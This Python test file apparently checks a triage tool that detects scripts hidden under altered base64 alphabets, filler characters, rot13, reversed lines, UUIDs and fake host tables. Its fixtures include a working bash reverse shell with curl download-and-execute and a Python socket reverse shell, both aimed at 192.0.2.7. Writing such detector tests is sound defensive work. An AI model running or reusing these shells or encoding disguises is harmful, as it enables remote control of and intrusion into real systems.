"""Base64 in other alphabets, with fillers, with turned lines; letters moved; the cheap question."""

from __future__ import annotations

import base64
import codecs
import random
import string
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest

from triage.content.disguised import may_be_disguised
from triage.content.examine import examine, payload
from triage.content.secret_alphabet import hides_text
from triage.reader import _holds_nothing_encoded

STANDARD = string.ascii_uppercase + string.ascii_lowercase + string.digits + "+/"
SHELL = b"""#!/bin/bash
# collects what it finds and keeps a way in
for host in $(awk '{print $1}' /etc/hosts); do
  curl -s "http://192.0.2.7/$host" -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &
  sleep 60
done
exec 5<>/dev/tcp/192.0.2.7/4444
while read -r line <&5; do eval "$line" >&5 2>&1; done
"""
PYTHON = b"""import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('192.0.2.7', 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(['/bin/sh', '-i'])
"""
Wrap = Callable[[bytes], bytes]


def in_alphabet(alphabet: str) -> Wrap:
    table = str.maketrans(STANDARD, alphabet)
    return lambda data: base64.b64encode(data).decode().translate(table).encode()


def with_filler(every: int, filler: str) -> Wrap:
    def wrap(data: bytes) -> bytes:
        text = base64.b64encode(data).decode()
        parts = [text[at : at + every] for at in range(0, len(text), every)]
        return filler.join(parts).encode()

    return wrap


def moved(by: int) -> Wrap:
    letters = string.ascii_lowercase
    turned = letters[by:] + letters[:by]
    table = bytes.maketrans(
        (letters + letters.upper()).encode(), (turned + turned.upper()).encode()
    )
    return lambda data: data.translate(table)


def shuffled(seed: int) -> str:
    letters = list(STANDARD)
    random.Random(seed).shuffle(letters)
    return "".join(letters)


def uuids(data: bytes) -> bytes:
    rows = (data[at : at + 16].ljust(16, b" ") for at in range(0, len(data), 16))
    return "\n".join(str(uuid.UUID(bytes=row)) for row in rows).encode()


def hosts(data: bytes) -> bytes:
    rows = (data[at : at + 4].ljust(4, b" ") for at in range(0, len(data), 4))
    return "".join(
        f"{'.'.join(map(str, row))} node{number}\n" for number, row in enumerate(rows)
    ).encode()


def lines_reversed(data: bytes) -> bytes:
    text = base64.b64encode(data)
    return b"\n".join(text[at : at + 60][::-1] for at in range(0, len(text), 60))


WRAPS: dict[str, Wrap] = {
    "turned by 13": in_alphabet(STANDARD[13:] + STANDARD[:13]),
    "turned by 40": in_alphabet(STANDARD[40:] + STANDARD[:40]),
    "small letters first": in_alphabet(STANDARD.swapcase()),
    "of bcrypt": in_alphabet("./" + STANDARD[:62]),
    "digits first": in_alphabet(string.digits + STANDARD[:52] + "+/"),
    "backwards, turned": in_alphabet((STANDARD[7:] + STANDARD[:7])[::-1]),
    "rot13 of base64": lambda data: codecs.encode(
        base64.b64encode(data).decode(), "rot13"
    ).encode(),
    "a dot behind each": with_filler(1, "."),
    "a letter behind each": with_filler(1, "x"),
    "zero width behind four": with_filler(4, "\u200b"),
    "a sign behind three": with_filler(3, "#"),
    "lines reversed": lines_reversed,
    "UUIDs as written": uuids,
    "a table of hosts": hosts,
}


@pytest.mark.parametrize("name", WRAPS)
@pytest.mark.parametrize("data", [SHELL, PYTHON], ids=["shell", "python"])
def test_a_script_is_found_and_looked_for(name: str, data: bytes) -> None:
    text = WRAPS[name](data)
    found = payload(examine(text))
    assert found is not None
    assert found.kind in ("shell", "python")
    assert not _holds_nothing_encoded(text)


@pytest.mark.parametrize("by", range(1, 26))
def test_letters_that_were_moved(by: int) -> None:
    found = payload(examine(moved(by)(PYTHON)))
    assert found is not None
    assert found.kind == "python"


@pytest.mark.parametrize("seed", range(4))
def test_a_program_under_an_alphabet_of_its_own(seed: int) -> None:
    program = next(p for p in map(Path, ("/bin/sleep", "/bin/ls")) if p.is_file()).read_bytes()
    text = in_alphabet(shuffled(seed))(program[:20_000])
    found = payload(examine(text))
    assert found is not None
    assert found.kind == "elf"


@pytest.mark.parametrize("seed", range(4))
def test_text_under_an_alphabet_of_its_own_is_told_by_its_places(seed: int) -> None:
    assert hides_text(in_alphabet(shuffled(seed))((SHELL + PYTHON) * 2))


def test_noise_words_and_the_usual_alphabet_are_not() -> None:
    noise = random.Random(2).randbytes(3000)
    assert not hides_text(base64.b64encode((SHELL + PYTHON) * 2))
    assert not hides_text(base64.b64encode(noise))
    assert not hides_text(in_alphabet(shuffled(1))(noise))
    assert not hides_text(noise.hex().encode())
    assert not hides_text(SHELL * 4)


PLAIN = {
    "state": b"STATE=running\nRESULT=success\nMAIN_PID=4242\nSTARTED=1760000000\n" * 4,
    "json": b'{"id": 7, "name": "eth0", "up": true, "address": "192.0.2.7/24"}\n' * 4,
    "prose": b"The daemon writes its state here and reads it again when it starts.\n" * 4,
    "paths": b"/usr/share/doc/libfoo/changelog.Debian.gz\n/usr/lib/libfoo.so.1\n" * 6,
    "resolver": b"# made by the network manager\nnameserver 192.0.2.53\nsearch example.net\n",
}


@pytest.mark.parametrize("name", PLAIN)
def test_ordinary_state_is_settled_by_the_cheap_question(name: str) -> None:
    assert not may_be_disguised(PLAIN[name])
    assert payload(examine(PLAIN[name])) is None


@pytest.mark.parametrize("seed", range(30))
def test_noise_in_base64_stays_noise(seed: int) -> None:
    noise = random.Random(seed).randbytes(40 + seed * 40)
    assert payload(examine(base64.b64encode(noise))) is None
    assert payload(examine(in_alphabet(shuffled(seed))(noise))) is None
